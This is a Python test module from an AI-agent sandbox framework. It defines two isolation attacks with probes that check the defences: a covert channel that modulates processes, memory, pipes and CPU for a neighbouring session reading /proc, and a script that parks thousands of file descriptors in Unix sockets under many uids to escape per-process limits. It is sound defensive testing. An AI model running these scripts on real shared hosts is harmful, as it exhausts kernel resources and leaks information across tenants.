"""Attacks on what one `os` session can learn of another's work, and on files parked where no limit counts them.

  * `os_proc_channel`: the attacker's session modulates everything a neighbour could count (40 processes
    forked and gone, 300 MB held and freed, 800 pipes, CPU burnt) in two-second bits; a new session reads
    every file of /proc outside its own processes three times meanwhile (`PROC_SNAPSHOT`), and `sysinfo(2)`:
    nothing may move, and its own meminfo, loadavg and sysinfo may count only its own memory and processes.
  * `os_files_in_flight`: files passed over Unix sockets and never received are held by no process, so no
    RLIMIT_NOFILE counts them; the kernel bounds them per real uid. The attacker parks what it can under
    every uid it can become (root, users, nobody, system ids, ids past the users') and keeps them; a new
    session does the same: it must still park some (its uids are its own) and no more than its share of
    the host's open-file table, and the host's table must be far from full.

The verdicts are the probes' (`runner`): "" when all held. Not here: the defences (`agentrl.sandbox`:
`layout.proc_masks`, `procview.py`, `seccomp.real_uids`, `SandboxConfig.holders`).
"""
from __future__ import annotations

import re
from typing import Any

from agentrl.checks.attacks.attack import Attack, call, host_file_table_problems

PROC_SNAPSHOT = r"""python3 - <<'EOF'
import ctypes, hashlib, os
SKIP = ("/proc/self", "/proc/thread-self", "/proc/net", "/proc/sys/net", "/proc/sys/kernel/random/uuid",
        "/proc/sys/kernel/ns_last_pid", "/proc/kmsg")
OWN = ("/proc/meminfo", "/proc/stat", "/proc/loadavg", "/proc/uptime", "/proc/vmstat")
out = []
stack = sorted(("/proc/" + n for n in os.listdir("/proc") if not n.isdigit()), reverse=True)
while stack:
    p = stack.pop()
    if p.startswith(SKIP) or p in OWN or os.path.islink(p):
        continue
    if os.path.isdir(p):
        try:
            stack += sorted((p + "/" + n for n in os.listdir(p)), reverse=True)
        except OSError:
            pass
        continue
    try:
        with open(p, "rb") as f:
            out.append(p + " " + hashlib.sha1(f.read(1 << 20)).hexdigest()[:12])
    except OSError:
        pass
class SysInfo(ctypes.Structure):
    _fields_ = [("uptime", ctypes.c_long), ("loads", ctypes.c_ulong * 3), ("totalram", ctypes.c_ulong),
                ("freeram", ctypes.c_ulong), ("sharedram", ctypes.c_ulong), ("bufferram", ctypes.c_ulong),
                ("totalswap", ctypes.c_ulong), ("freeswap", ctypes.c_ulong), ("procs", ctypes.c_ushort),
                ("pad", ctypes.c_ushort), ("totalhigh", ctypes.c_ulong), ("freehigh", ctypes.c_ulong),
                ("mem_unit", ctypes.c_uint), ("_f", ctypes.c_char * 8)]
info = SysInfo()
assert ctypes.CDLL(None).sysinfo(ctypes.byref(info)) == 0
mem = dict(line.split(":") for line in open("/proc/meminfo"))
kb = lambda k: int(mem[k].split()[0]) << 10
print("OWN", kb("MemTotal"), kb("MemTotal") - kb("MemFree"), open("/proc/loadavg").read().split()[3],
      info.totalram * info.mem_unit, (info.totalram - info.freeram) * info.mem_unit, info.procs)
print("\n".join(out))
EOF
"""
"""A session's look at every host-wide file of /proc (a hash each; the process directories, its own
namespaces' net and the files that are its own aside) and at its own numbers: "OWN" MemTotal, used
memory, loadavg's running/total, sysinfo's totalram, used and procs."""


def parse_snapshot(text: str) -> tuple[list[int], dict[str, str]]:
    """(own numbers, {path: hash}) of `PROC_SNAPSHOT`'s output (own: [] when it did not finish)."""
    lines = text.splitlines()
    own = next((line.split()[1:] for line in lines if line.startswith("OWN ")), [])
    files = dict(line.rsplit(" ", 1) for line in lines if line.startswith("/proc/") and " " in line)
    return [int(x) if x.isdigit() else int(x.split("/")[-1]) for x in own], files


MODULATOR = r"""cat > /tmp/m.py <<'EOF'
import os, time
for bit in [1, 0, 1, 1, 0, 1, 0, 0] * 4:  # two seconds a bit: everything a neighbour could count
    t = time.time()
    if bit:
        held = bytearray(300 << 20)
        pipes = [os.pipe() for _ in range(400)]
        kids = [os.fork() for _ in range(1)]
        if kids[0] == 0:
            for _ in range(40):
                if os.fork() == 0:
                    time.sleep(1.5)
                    os._exit(0)
            os._exit(0)
        while time.time() < t + 2:
            pass
        for r, w in pipes:
            os.close(r)
            os.close(w)
        del held
        os.waitpid(kids[0], 0)
    else:
        time.sleep(2)
EOF
(python3 /tmp/m.py > /dev/null 2>&1 &); sleep 1; echo modulating"""


def _proc_probe(task: Any) -> str:
    """A new session reads /proc and sysinfo three times while the attacker modulates (module docstring)."""
    from agentrl.sandbox import Shell

    problems: list[str] = []
    budget = getattr(task, "budget", None)
    slot = budget.acquire() if budget is not None else 1
    try:
        shell = Shell(task.sandbox, uid_slot=slot)
        try:
            looks = [parse_snapshot(shell.run(PROC_SNAPSHOT + "; sleep 2", timeout=60).output) for _ in range(3)]
        finally:
            shell.close()
    finally:
        if budget is not None:
            budget.release(slot)
    first = looks[0][1]
    moved = sorted({p for _, files in looks[1:] for p in first.keys() | files.keys() if first.get(p) != files.get(p)})
    if moved:
        problems.append(f"{len(moved)} file(s) of /proc moved with the neighbour's work: {', '.join(moved[:6])}")
    for own, _ in looks:
        if len(own) != 6:
            problems.append("the session could not read its own /proc/meminfo, loadavg or sysinfo")
            break
        _, used, tasks, _, sys_used, procs = own
        if max(used, sys_used) >= 250 << 20 or max(tasks, procs) >= 30:
            problems.append(f"the session's own numbers count the neighbour's (used {max(used, sys_used) >> 20} MB, "
                            f"{max(tasks, procs)} tasks)")
            break
    return "; ".join(problems)


PARKER = r"""cat > /tmp/p.py <<'EOF'
import array, errno, os, socket, sys, time
UIDS = [0, 1000, 1001, 1002, 1003, 1004, 1005, 1006, 1007, 1008, 1009, 1020, 65534, 65533, 1, 33, 999, 4242, 60000]
hold, sink = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
parked = 0
for uid in UIDS:
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        n = 0
        try:
            os.setresuid(uid, uid, uid)
            while n < 20000:
                fds = [os.open("/dev/null", os.O_RDONLY) for _ in range(200)]
                try:  # a carrier socket holding 200 files, itself parked in `sink`'s queue
                    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
                    a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", fds))])
                    sink.sendmsg([b"y"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [b.fileno()]))])
                    a.close(); b.close()
                    n += 200
                finally:
                    for fd in fds:
                        os.close(fd)
        except OSError:
            pass
        os.write(w, str(n).encode())
        os._exit(0)
    os.close(w)
    parked += int(os.read(r, 32) or b"0")
    os.waitpid(pid, 0)
    os.close(r)
print("parked", parked, flush=True)
if sys.argv[1:] == ["hold"]:
    time.sleep(120)
EOF
"""
PARK_AND_HOLD = PARKER + "(python3 /tmp/p.py hold > /tmp/p.out 2>&1 &); sleep 8; cat /tmp/p.out"


def _parked_probe(task: Any) -> str:
    """While the attacker keeps what it parked: the host's file table is far from full, and a new session parks
    some files (its uids are its own) but no more than its share of the table allows (module docstring)."""
    from agentrl.sandbox import Shell
    from agentrl.sandbox.config import SCM_MAX_FD

    problems = host_file_table_problems()
    cfg = task.sandbox
    budget = getattr(task, "budget", None)
    slot = budget.acquire() if budget is not None else 1
    try:
        shell = Shell(cfg, uid_slot=slot)
        try:
            out = shell.run(PARKER + "python3 /tmp/p.py", timeout=60).output
        finally:
            shell.close()
    finally:
        if budget is not None:
            budget.release(slot)
    found = re.search(r"parked (\d+)", out)
    if found is None:
        return "; ".join(problems + [f"a new session could not park files ({out[-120:]!r})"])
    parked, uids = int(found.group(1)), cfg.user_uids + 2
    if parked == 0:
        problems.append("a new session could park no file: another session's take is counted against it")
    if parked > uids * (cfg.nofile() + SCM_MAX_FD):
        problems.append(f"a session parked {parked} files in Unix sockets, past what its {uids} uids may hold "
                        f"({uids} x ({cfg.nofile()} + {SCM_MAX_FD}))")
    return "; ".join(problems)


def os_channel_attacks() -> list[Attack]:
    return [
        Attack("os_proc_channel", "os", "processes, memory, pipes and CPU modulated in two-second bits while a new "
               "session reads every file of /proc and sysinfo(2) three times (host-wide counters)",
               (call("bash_action", {"script": MODULATOR}),), "train-0", probe=_proc_probe),
        Attack("os_files_in_flight", "os", "files parked in Unix sockets (SCM_RIGHTS) under every uid the session "
               "can become, held while a new session does the same (open files)",
               (call("bash_action", {"script": PARK_AND_HOLD}),), "train-0", probe=_parked_probe),
    ]
